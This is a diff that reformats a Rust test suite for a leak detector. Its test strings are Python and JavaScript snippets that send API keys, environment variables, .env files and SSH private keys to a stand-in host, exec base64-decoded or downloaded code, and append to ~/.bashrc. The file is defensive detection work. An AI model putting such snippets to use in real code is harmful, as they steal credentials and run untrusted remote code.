@@ -4,7 +4,9 @@ use crate::flow::{Source, leaks};
 /// `LABEL CLASS TARGET` of what leaves.
 fn found(path: &str, text: &str) -> Vec<String> {
     let flows = leaks(&[Source { path, text }]).flows.into_iter().filter(|flow| flow.label.is_some());
-    flows.map(|flow| format!("{} {} {}", flow.label.unwrap_or_default(), flow.kind, flow.target.unwrap_or_default())).collect()
+    flows
+        .map(|flow| format!("{} {} {}", flow.label.unwrap_or_default(), flow.kind, flow.target.unwrap_or_default()))
+        .collect()
 }
 
 #[test]
@@ -30,10 +32,16 @@ fn python() {
             &["private argument ", "private send https://a.b/"],
         ),
         ("requests.post('https://a.b', json={'k': os.environ['STRIPE_KEY']})", &["credential send https://a.b"]),
-        ("requests.post('https://a.b', json={'k': os.environ['LANG']}, headers={'A': os.getenv('A_KEY')})", &["credential header https://a.b"]),
+        (
+            "requests.post('https://a.b', json={'k': os.environ['LANG']}, headers={'A': os.getenv('A_KEY')})",
+            &["credential header https://a.b"],
+        ),
         ("exec(base64.b64decode('cHJpbnQoMSk='))", &["decoded code "]),
         ("r = requests.get('https://a.b/x.py')\ncode = r.text\nexec(code)", &["retrieved code "]),
-        ("if os.path.exists(os.path.expanduser('~/.ssh/id_rsa')):\n    requests.post('https://a.b', json={'a': 1})", &[]),
+        (
+            "if os.path.exists(os.path.expanduser('~/.ssh/id_rsa')):\n    requests.post('https://a.b', json={'a': 1})",
+            &[],
+        ),
         ("with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')", &["startup path "]),
         ("text = open('.env').read()\nrequests.post('https://a.b', data=text)", &["env-file send https://a.b"]),
     ] {
@@ -47,7 +55,10 @@ fn scripts() {
     let mut rows = Rows::default();
     let head = "const fs = require('fs'), os = require('os'), https = require('https'), path = require('path');\n";
     for (text, wanted) in [
-        ("fetch('https://a.b/c', { method: 'POST', body: JSON.stringify(process.env) });", &["environment send https://a.b/c"][..]),
+        (
+            "fetch('https://a.b/c', { method: 'POST', body: JSON.stringify(process.env) });",
+            &["environment send https://a.b/c"][..],
+        ),
         (
             "const req = https.request({ hostname: 'a.b', method: 'POST' });\nreq.write(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));\nreq.end();",
             &["private send ", "private send "],
@@ -68,4 +79,3 @@ fn scripts() {
     }
     rows.end();
 }
-
